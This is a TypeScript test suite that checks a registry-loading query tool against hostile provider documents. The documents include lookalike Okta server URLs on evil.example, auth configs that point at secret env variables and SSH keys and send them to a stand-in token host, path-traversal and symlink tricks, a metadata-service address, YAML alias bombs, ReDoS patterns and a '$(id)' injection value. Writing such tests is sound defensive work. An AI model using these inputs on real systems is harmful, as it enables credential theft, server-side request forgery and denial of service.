/**
 * Documents of people whom nobody vetted, read by `--registry`: each asks for something that is not its own. Whatever they say,
 * nothing but the org is reached, and nothing secret leaves.
 */

import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { inspect } from 'node:util';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';

import { loadRegistry, type QueryError, type SessionOptions } from '../../src/index.ts';
import { endingOf, openWorld, TOKEN, type World } from './world.ts';

let world: World;
let folder = '';
beforeAll(async () => {
  world = await openWorld();
});
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'oktaql-hostile-'));
});
afterEach(async () => {
  rmSync(folder, { recursive: true });
  await world.forget();
});
afterAll(() => world.close());

const SECRET = 'hunter2-of-this-machine';

type Json = Readonly<Record<string, unknown>>;

/** What a case changes of a document that is harmless. */
interface Hostile {
  readonly name?: string;
  readonly auth?: Json;
  readonly servers?: readonly unknown[];
  /** Of the method that lists. */
  readonly method?: Json;
  readonly resource?: Json;
  /** Beside `r`. */
  readonly resources?: Json;
  readonly schema?: unknown;
  readonly schemas?: Json;
  readonly paths?: Json;
  /** In place of the whole service. */
  readonly text?: string;
  /** Where the provider's document says that the service is. */
  readonly service?: string;
}

const SERVICE = 'p/v1/services/s.yaml';

function write(file: string, text: string): string {
  const path = join(folder, 'reg/src', file);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
  return path;
}

function writeRegistry({ name = 'desk', auth, service = SERVICE, ...rest }: Hostile): void {
  const provider = {
    name,
    version: 'v1',
    ...(auth && { config: { auth } }),
    providerServices: { s: { service: { $ref: service } } },
  };
  write('p/v1/provider.yaml', JSON.stringify(provider));
  write(SERVICE, rest.text ?? JSON.stringify(serviceOf(rest)));
}

function serviceOf({
  servers = [{ url: 'https://evil.example' }],
  method,
  resource,
  resources,
  schema,
  schemas,
  paths,
}: Hostile): Json {
  const item = schema ?? { type: 'object', properties: { id: { type: 'string' } } };
  const answer = { description: 'ok', content: { 'application/json': { schema: { type: 'array', items: item } } } };
  const list = { operation: { $ref: '#/paths/~1r/get' }, ...method };
  return {
    openapi: '3.0.3',
    info: { title: 's' },
    servers,
    paths: { '/r': { get: { responses: { 200: answer } } }, ...paths },
    components: { schemas, 'x-stackQL-resources': { r: { methods: { list }, ...resource }, ...resources } },
  };
}

async function outcomeOf(sql: string, options: SessionOptions = {}): Promise<{ readonly error?: QueryError }> {
  const run = async (): Promise<{ readonly rows: readonly (readonly unknown[])[] }> => {
    const registry = await loadRegistry(join(folder, 'reg'));
    const environment = (): string => SECRET;
    return world.online({ registry, environment, subdomain: 'acme', ...options }).query(sql);
  };
  const ending = await endingOf(run());
  await world.settle();
  return 'error' in ending ? { error: ending.error as QueryError } : {};
}

/** Refused in our own words, before anybody was asked. */
async function expectRefused(sql: string, code: string, says: string): Promise<void> {
  const { error } = await outcomeOf(sql);
  expect({ code: error?.code, ways: world.ways, contacts: world.contacts, received: world.received }).toEqual({
    code,
    ways: [],
    contacts: [],
    received: [],
  });
  expect(error?.message).toContain(says);
  const shown = inspect(error, { depth: 6, showHidden: true });
  for (const secret of [SECRET, TOKEN]) expect(shown).not.toContain(secret);
}

describe('a document that is called okta gets no login of Okta at a server of its own', () => {
  const SERVERS = [
    'https://evil.example',
    'https://{subdomain}.evil.example/',
    'https://{subdomain}.okta.com.evil.example/',
    'https://acme.okta.com.evil.example/',
    'https://acme.okta.com',
    'https://{subdomain}.okta.com:8443/',
    'https://{subdomain}.okta.com@evil.example/',
    'https://evil.example/https://{subdomain}.okta.com/',
    'https://{subdomain}.okta.com\\.evil.example/',
    'https://{subdomain}.okta.com/../../evil',
    'https://{subdomain}.okta.com\n',
    'https://{subdomain}.okta.org/',
    'https://{subdomain}',
    'HTTPS://{subdomain}.okta.com/',
    '//{subdomain}.okta.com/',
    'http://127.0.0.1:1',
    '',
  ];
  const variables = { subdomain: {} };

  test.each(SERVERS)('%j', async (url) => {
    writeRegistry({ name: 'okta', servers: [{ url, variables }] });
    await expectRefused('SELECT * FROM okta.s.r', 'NOT_SUPPORTED', 'its document is called okta');
  });

  test.each(['Okta', 'OKTA', 'oKta'])('called %s', async (name) => {
    writeRegistry({ name, servers: [{ url: 'https://evil.example' }] });
    await expectRefused('SELECT * FROM okta.s.r', 'NOT_SUPPORTED', 'its document is called okta');
  });

  test.each(['okta.x', 'okta ', 'okta\n', '', 'oktа', 'okta/..'])('called %j', async (name) => {
    writeRegistry({ name });
    await expectRefused('SELECT * FROM okta.s.r', 'UNKNOWN_PROVIDER', 'the name of a provider');
    // Where the document could not be used, its folder has a name.
    await expectRefused('SELECT * FROM p.s.r', 'PROVIDER_DOCUMENT', 'the name of a provider');
  });

  test('with a login that the caller gives for okta', async () => {
    writeRegistry({ name: 'okta', auth: { type: 'bearer', api_key: 'x' } });
    const { error } = await outcomeOf('SELECT * FROM okta.s.r', {
      auth: { okta: { type: 'api_key', credentialsenvvar: 'OKTA_API_TOKEN', valuePrefix: 'SSWS ' } },
    });
    expect([error?.code, world.ways, world.contacts]).toEqual(['NOT_SUPPORTED', [], []]);
  });

  test('trusted or not', async () => {
    writeRegistry({ name: 'okta' });
    const { error } = await outcomeOf('SELECT * FROM okta.s.r', { trustRegistry: true });
    expect([error?.code, world.ways, world.contacts]).toEqual(['NOT_SUPPORTED', [], []]);
  });
});

describe('which org is meant no document says', () => {
  const okta = { name: 'okta', servers: [{ url: 'https://{subdomain}.okta.com', variables: { subdomain: {} } }] };
  const fixed = { default: 'attacker', enum: ['attacker'] };

  test.each<[what: string, changes: Hostile]>([
    ['a default', { servers: [{ url: 'https://{subdomain}.okta.com', variables: { subdomain: fixed } }] }],
    ['a value that is always sent', { method: { 'x-oktaql': { defaults: { subdomain: 'attacker' } } } }],
    ['a second list', { method: { 'x-oktaql': { also: [{ subdomain: 'attacker' }] } } }],
    ['values that are tried', { method: { 'x-oktaql': { enumerate: { subdomain: ['attacker'] } } } }],
  ])('by %s', async (_what, changes) => {
    writeRegistry({ ...okta, ...changes });
    await expectRefused('SELECT * FROM okta.s.r', 'NOT_SUPPORTED', 'says itself which org');
  });
});

describe('nor does a view', () => {
  const okta = { name: 'okta', servers: [{ url: 'https://{subdomain}.okta.com', variables: { subdomain: {} } }] };

  test.each([
    "SELECT * FROM okta.s.r WHERE subdomain = 'attacker'",
    "SELECT id FROM okta.s.r WHERE id = '1' OR subdomain IN ('attacker', 'b')",
    "WITH t AS (SELECT * FROM okta.s.r x WHERE x.SubDomain LIKE 'attacker') SELECT * FROM t",
    "SELECT a.id FROM okta.s.r a JOIN okta.s.r b ON b.subdomain = concat('attack', 'er') AND a.id = b.id",
    "SELECT (SELECT max(id) FROM okta.s.r WHERE subdomain = (SELECT 'attacker')) AS x",
    "SELECT * FROM okta.s.r WHERE subdomain BETWEEN 'a' AND 'z'",
  ])('%s', async (ddl) => {
    writeRegistry({ ...okta, resources: { v: { id: 'okta.s.v', config: { views: { select: { ddl } } } } } });
    await expectRefused('SELECT * FROM okta.s.v', 'NOT_SUPPORTED', 'says itself which org');
  });

  test.each([
    "SELECT a.id FROM okta.s.r a JOIN (SELECT 'attacker' AS s) v ON a.subdomain = v.s",
    "SELECT id FROM okta.s.r a, (VALUES ('attacker')) v(s) WHERE v.s = a.subdomain",
  ])('of rows that it makes, the org is not taken: %s', async (ddl) => {
    writeRegistry({ ...okta, resources: { v: { id: 'okta.s.v', config: { views: { select: { ddl } } } } } });
    await outcomeOf('SELECT * FROM okta.s.v');
    expect(world.received.filter(({ headers }) => !String(headers['host']).startsWith('acme.'))).toEqual([]);
    expect(world.contacts.filter((contact) => String(contact).includes('attacker'))).toEqual([]);
  });
});

describe('a document names no variable and no file', () => {
  test.each<[what: string, auth: Json]>([
    ['a variable', { type: 'api_key', credentialsenvvar: 'AWS_SECRET_ACCESS_KEY' }],
    ['in other letters', { type: 'API_KEY', CredentialsEnvVar: 'AWS_SECRET_ACCESS_KEY' }],
    ['Okta’s', { type: 'api_key', credentialsenvvar: 'OKTA_API_TOKEN', valuePrefix: 'SSWS ' }],
    ['a file', { type: 'bearer', credentialsfilepath: '/proc/self/environ' }],
    ['a key', { type: 'basic', credentialsfilepath: '/root/.ssh/id_ed25519' }],
    ['the variable of a file', { type: 'bearer', credentialsfilepathenvvar: 'SSH_KEY' }],
    ['user and password', { type: 'basic', username_var: 'USER', password_var: 'PGPASSWORD' }],
    [
      'a key and its secret',
      { type: 'basic', api_key_var: 'AWS_ACCESS_KEY_ID', api_secret_var: 'AWS_SECRET_ACCESS_KEY' },
    ],
    ['in the query', { type: 'custom', name: 'q', location: 'query', credentialsenvvar: 'GITHUB_TOKEN' }],
    [
      'in a second header',
      { type: 'custom', name: 'a', api_key: 'x', successor: { type: 'custom', name: 'b', credentialsenvvar: 'HOME' } },
    ],
    [
      'a client',
      { type: 'oauth2', client_id_env_var: 'A', client_secret_env_var: 'B', token_url: 'https://evil.example/token' },
    ],
    [
      'the URL of a token',
      { type: 'oauth2', client_id: 'a', client_secret: 'b', token_url: 'https://evil.example/{{ .__env__HOME }}' },
    ],
    [
      'an account',
      {
        type: 'oauth2',
        client_id: 'a',
        client_secret: 'b',
        account_id_var: 'HOME',
        token_url: 'https://evil.example/{{ .account_id }}',
      },
    ],
    [
      'a private key',
      {
        type: 'private_key_jwt',
        client_id: 'a',
        credentialsfilepath: '/root/.ssh/id_rsa',
        token_url: 'https://evil.example/t',
      },
    ],
  ])('%s', async (_what, auth) => {
    writeRegistry({ auth });
    await expectRefused('SELECT * FROM desk.s.r', 'INVALID_VALUE', 'The document of desk would send');
  });

  test('nor before another table of the statement was asked', async () => {
    writeRegistry({ auth: { type: 'bearer', credentialsenvvar: 'HOME' } });
    await expectRefused('SELECT a.id FROM desk.s.r a JOIN desk.s.r b ON a.id = b.id', 'INVALID_VALUE', 'would send');
  });

  test('the error shows what allows it, and that does', async () => {
    const auth = { type: 'bearer', credentialsenvvar: "IT'S; $(id)" };
    writeRegistry({ auth });
    const { error } = await outcomeOf('SELECT * FROM desk.s.r');
    const [, written = ''] = /--auth '(.*)' \(auth\)/.exec(error?.hint ?? '') ?? [];
    expect(error?.hint).toContain('--trust-registry');
    expect(JSON.parse(execFileSync('sh', ['-c', `printf %s '${written}'`], { encoding: 'utf8' }))).toEqual({
      desk: auth,
    });
    for (const options of [{ auth: { desk: auth } }, { trustRegistry: true }]) {
      await world.forget();
      expect(await outcomeOf('SELECT * FROM desk.s.r', options)).toEqual({});
      expect(world.contacts.join('\n')).toContain(`Bearer ${SECRET}`);
    }
  });
});

describe('a document names files of its registry only', () => {
  const outside = (): string => {
    const path = join(folder, 'secret.yaml');
    writeFileSync(path, `openapi: 3.0.3\ninfo: { title: ${SECRET} }\ncomponents: { x-stackQL-resources: { } }\n`);
    return path;
  };
  const at = (name: string): string => join(folder, 'reg/src/p/v1', name);

  test.each<[what: string, service: string, says: string, arrange?: () => void]>([
    ['above', '../../secret.yaml', 'no such file'],
    ['above, from inside', 'p/../../../secret.yaml', 'no such file'],
    ['by its whole path', '/etc/passwd', 'no such file'],
    ['by a URL', 'file:///etc/passwd', 'no such file'],
    ['on the network', 'https://evil.example/s.yaml', 'no such file'],
    ['with a zero', 'p/v1/services/s.yaml\0.txt', 'no such file'],
    ['the registry itself', '.', 'no such file'],
    ['nothing', '', 'no such file'],
    ['a folder', 'p/v1/services', 'it is no file'],
    ['behind a link', 'p/v1/link.yaml', 'leads out', () => symlinkSync(outside(), at('link.yaml'))],
    [
      'behind a link of a folder',
      'p/v1/up/secret.yaml',
      'leads out',
      () => {
        outside();
        symlinkSync(folder, at('up'));
      },
    ],
    ['behind a link in other letters', 'p/v1/LINK.yaml', 'leads out', () => symlinkSync(outside(), at('link.yaml'))],
    ['a device', 'p/v1/zero', 'leads out', () => symlinkSync('/dev/zero', at('zero'))],
    ['the environment', 'p/v1/env', 'leads out', () => symlinkSync('/proc/self/environ', at('env'))],
    ['a pipe', 'p/v1/pipe', 'it is no file', () => execFileSync('mkfifo', [at('pipe')])],
    ['a link to itself', 'p/v1/loop', 'cannot be read', () => symlinkSync(at('loop'), at('loop'))],
    ['too large', SERVICE, 'more than 16777216 bytes', () => truncateSync(at('services/s.yaml'), 17 * 2 ** 20)],
  ])('%s', async (_what, service, says, arrange) => {
    outside();
    writeRegistry({ service });
    arrange?.();
    await expectRefused('SELECT * FROM desk.s.r', 'PROVIDER_DOCUMENT', says);
  });

  test.each<[what: string, arrange: () => void, says: string]>([
    ['a pipe', () => execFileSync('mkfifo', [at('provider.yaml')]), 'it is no file'],
    ['a link', () => symlinkSync(outside(), at('provider.yaml')), 'leads out'],
    ['a device', () => symlinkSync('/dev/zero', at('provider.yaml')), 'leads out'],
  ])('the provider’s own document is %s', async (_what, arrange, says) => {
    writeRegistry({});
    rmSync(at('provider.yaml'));
    arrange();
    await expectRefused('SELECT * FROM desk.s.r', 'UNKNOWN_PROVIDER', says);
    await expectRefused('SELECT * FROM p.s.r', 'PROVIDER_DOCUMENT', says);
  });

  test('a folder that is a link elsewhere is no provider, and a link inside is read', async () => {
    writeRegistry({ service: 'p/v1/inside.yaml' });
    symlinkSync(at('services/s.yaml'), at('inside.yaml'));
    symlinkSync('/etc', join(folder, 'reg/src/etc'));
    const registry = await loadRegistry(join(folder, 'reg'));
    expect([registry.providers.length, registry.service('desk', 's').name]).toEqual([1, 's']);
  });

  test('two that have one name', async () => {
    writeRegistry({});
    write('q/v1/provider.yaml', JSON.stringify({ name: 'Desk', version: 'v1', providerServices: {} }));
    await expectRefused('SELECT * FROM desk.s.r', 'PROVIDER_DOCUMENT', 'is called Desk too');
  });
});

/** Levels that refer to the next twice: each has twice the parts of the one below. */
function doubled(levels: number, combine: (ref: Json) => Json): Json {
  const entries = Array.from({ length: levels }, (_, level) => {
    const below = { $ref: `#/components/schemas/L${level + 1}` };
    return [`L${level}`, combine(below)] as const;
  });
  return { ...Object.fromEntries(entries), [`L${levels}`]: { type: 'object', properties: { id: { type: 'string' } } } };
}

const many = (count: number, entry: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => entry(index)).join('');

describe('a document takes neither time nor memory without end', () => {
  test.each<[what: string, text: string, says: string]>([
    ['lists in lists', '['.repeat(100_000), 'nested more than'],
    ['objects in objects', many(100_000, () => '{"a":'), 'nested more than'],
    ['keys in keys', '? '.repeat(3_000), 'nested more than'],
    ['keys in keys, line by line', many(400, (index) => `${' '.repeat(index)}?\n`), 'nested more than'],
    ['dashes', '- '.repeat(3_000), 'nested more than'],
    ['levels', many(400, (index) => `${' '.repeat(index)}a:\n`), 'nested more than'],
    [
      'laughs',
      `a0: &a0 [x]\n${many(30, (index) => `a${index + 1}: &a${index + 1} [*a${index}, *a${index}]\n`)}`,
      'with what aliases repeat',
    ],
    ['many aliases', `a: &a [${'1,'.repeat(2_000)}1]\nb: [${'*a,'.repeat(2_000)}*a]`, 'with what aliases repeat'],
    ['an alias in itself', 'a: &a [*a]', 'inside what it stands for'],
    ['an alias of nothing', 'a: *b', 'stands for nothing'],
    ['a key twice', '{"openapi":"3.0.3","openapi":"3.0.3"}', 'comes twice'],
    ['a key that is a list', '? [a]\n: 1', 'a key is no text'],
    ['a long key', `? ${'k'.repeat(5_000)}\n: 1`, 'a key has more than'],
    ['two documents', '---\na: 1\n---\nb: 1\n', 'more than one document'],
    ['none', '', 's.yaml#: '],
    ['a tag, which is a text', 'a: !!js/function "() => 1"', 's.yaml#/openapi'],
  ])('%s', async (_what, text, says) => {
    writeRegistry({ text });
    await expectRefused('SELECT * FROM desk.s.r', 'PROVIDER_DOCUMENT', says);
  });

  test('thirty thousand keys of one object are compared with each other once', async () => {
    writeRegistry({ text: `openapi: 3.0.3\n${many(30_000, (index) => `k${index}: 1\n`)}` });
    await expectRefused('SELECT * FROM desk.s.r', 'PROVIDER_DOCUMENT', 'there are no resources');
  });

  const L0 = { $ref: '#/components/schemas/L0' };
  test.each<[what: string, changes: Hostile, says: string]>([
    ['a circle of references', { schema: L0, schemas: { L0 } }, 'in a circle'],
    ['a part of itself', { schema: L0, schemas: { L0: { allOf: [L0] } } }, 'contains itself'],
    ['a part of itself, ten times', { schema: L0, schemas: { L0: { anyOf: Array(10).fill(L0) } } }, 'contains itself'],
    [
      'parts of parts',
      { schema: L0, schemas: doubled(16, (ref) => ({ allOf: Array(10).fill(ref) })) },
      'refer to each other',
    ],
    [
      'variants of variants',
      { schema: { properties: { a: L0 } }, schemas: doubled(16, (ref) => ({ oneOf: Array(10).fill(ref) })) },
      'refer to each other',
    ],
    ['a long reference', { schema: { $ref: `#/${'a/'.repeat(3_000)}` } }, 'the reference is too long'],
    [
      'columns',
      { schema: { properties: Object.fromEntries(Array.from({ length: 5_000 }, (_, index) => [`c${index}`, {}])) } },
      'more than 4000 properties',
    ],
    [
      'methods',
      {
        resource: {
          methods: Object.fromEntries(
            Array.from({ length: 1_001 }, (_, index) => [`m${index}`, { operation: { $ref: '#/paths/~1r/get' } }]),
          ),
        },
      },
      'more than 1000 methods',
    ],
    [
      'a pattern of patterns',
      { resource: { 'x-oktaql': { otherNames: { id: { parameter: 'a', values: '^(a+)+$' } } } } },
      'expected a regular expression',
    ],
    [
      'a pattern that may share',
      { resource: { 'x-oktaql': { otherNames: { id: { parameter: 'a', values: '^.*.*.*x$' } } } } },
      'expected a regular expression',
    ],
    [
      'a pattern that looks back',
      { resource: { 'x-oktaql': { otherNames: { id: { parameter: 'a', values: '^(a|b)\\1$' } } } } },
      'expected a regular expression',
    ],
    [
      'a long pattern',
      { resource: { 'x-oktaql': { otherNames: { id: { parameter: 'a', values: 'a'.repeat(300) } } } } },
      'expected a regular expression',
    ],
    ['a long server', { servers: [{ url: `https://${'{a}'.repeat(2_000)}` }] }, 'longer than 2048'],
  ])('%s', async (_what, changes, says) => {
    writeRegistry(changes);
    await expectRefused('SELECT * FROM desk.s.r', 'PROVIDER_DOCUMENT', says);
  });

  test('objects in objects that are no columns end where the budget does, and the table is there', async () => {
    const schema = { properties: { a: L0 } };
    writeRegistry({ schema, schemas: doubled(20, (ref) => ({ type: 'object', properties: { a: ref, b: ref } })) });
    const registry = await loadRegistry(join(folder, 'reg'));
    expect(registry.resource(['desk', 's', 'r']).columns.map(({ name }) => name)).toEqual(['a', '_raw']);
  });

  test.each<[what: string, url: string]>([
    ['this machine, in clear', 'http://169.254.169.254'],
    ['another host, in clear', 'http://evil.example'],
    ['a user in the server', 'https://user:pass@evil.example'],
    ['another scheme', 'ftp://evil.example'],
    ['a script', 'javascript:alert(1)'],
    ['a host that is a number', 'https://1.0x7f'],
  ])('a server that is %s is not asked', async (_what, url) => {
    writeRegistry({ servers: [{ url }] });
    const { error } = await outcomeOf('SELECT * FROM desk.s.r');
    expect(['NOT_SUPPORTED', 'INVALID_VALUE']).toContain(error?.code);
    expect([world.ways, world.contacts]).toEqual([[], []]);
  });
});

/** Names that every object has are names like all others. */
describe('names that JavaScript has', () => {
  const NAMES = [
    'constructor',
    '__proto__',
    'toString',
    'hasOwnProperty',
    'valueOf',
    '__defineGetter__',
    'isPrototypeOf',
  ];

  test.each(NAMES)('%s as provider, service, resource, method, parameter, header and column', async (name) => {
    const parameters = [
      { name, in: 'path', schema: { type: 'string' } },
      { name: `x-${name}`, in: 'header', schema: { type: 'string' } },
      { name, in: 'header', schema: { type: 'string' } },
    ];
    const properties = JSON.parse(
      `{"id":{"type":"string"},"x":{"type":"object","properties":{"${name}":{"type":"string"}}},"${name}":{"type":"string"}}`,
    ) as Json;
    const schema = { type: 'array', items: { type: 'object', properties } };
    const answer = { description: 'ok', content: { 'application/json': { schema } } };
    const service = {
      openapi: '3.0.3',
      info: { title: name },
      servers: [{ url: 'https://evil.example' }],
      paths: { [`/r/{${name}}`]: { get: { parameters, responses: { 200: answer } } } },
      components: {
        'x-stackQL-resources': {
          [name]: {
            methods: { [name]: { operation: { $ref: `#/paths/~1r~1{${name}}/get` } } },
            sqlVerbs: { select: [{ $ref: `#/components/x-stackQL-resources/${name}/methods/${name}` }] },
          },
        },
      },
    };
    write(
      'p/v1/provider.yaml',
      JSON.stringify({ name, version: 'v1', providerServices: { [name]: { service: { $ref: SERVICE } } } }),
    );
    write(SERVICE, JSON.stringify(service));
    const registry = await loadRegistry(join(folder, 'reg'));
    const requests: string[] = [];
    const session = world.online({
      registry,
      fetch: async (request) => {
        requests.push(
          `${request.method} ${request.url} ${request.headers.get(name)} ${request.headers.get(`x-${name}`)}`,
        );
        return new Response(`[{"id":"1","x":{"${name}":"in"},"${name}":"out"}]`, {
          headers: { 'content-type': 'application/json' },
        });
      },
    });
    const table = `"${name}"."${name}"."${name}"`;
    const { columns, rows } = await session.query(
      `SELECT id, t."${name}" AS a, t.x->>'$."${name}"' AS b FROM ${table} t WHERE t."${name}" = 'v' AND t."x-${name}" = 'h'`,
    );
    expect([columns.map((column) => column.name), rows]).toEqual([['id', 'a', 'b'], [['1', 'v', 'in']]]);
    expect(requests).toEqual([`GET https://evil.example/r/v v h`]);
    const shown = await session.query(`SHOW SERVICES IN "${name}"`);
    expect(shown.rows.flat()).toContain(name);
    for (const sql of [
      `SHOW RESOURCES IN "${name}"."${name}"`,
      `SHOW METHODS IN ${table}`,
      `DESCRIBE EXTENDED ${table}`,
    ]) {
      expect(JSON.stringify((await session.query(sql)).rows)).toContain(name);
    }
    await expect(session.query(`SELECT * FROM ${table}`)).rejects.toMatchObject({
      code: 'NO_METHOD',
      hint: expect.stringContaining(name) as unknown,
    });
  });

  test.each(NAMES)('%s is no provider, service, resource, column or setting where none is called so', async (name) => {
    writeRegistry({});
    for (const sql of [
      `SELECT * FROM "${name}".s.r`,
      `SELECT * FROM desk."${name}".r`,
      `SELECT * FROM desk.s."${name}"`,
      `SELECT "${name}" FROM desk.s.r`,
      `EXEC desk.s.r.list @"${name}" = '1'`,
    ]) {
      const { error } = await outcomeOf(sql);
      expect(error?.code).toMatch(/^(?:UNKNOWN_|SYNTAX|BINDING|INVALID)/);
    }
    expect([world.ways, world.contacts]).toEqual([[], []]);
  });
});
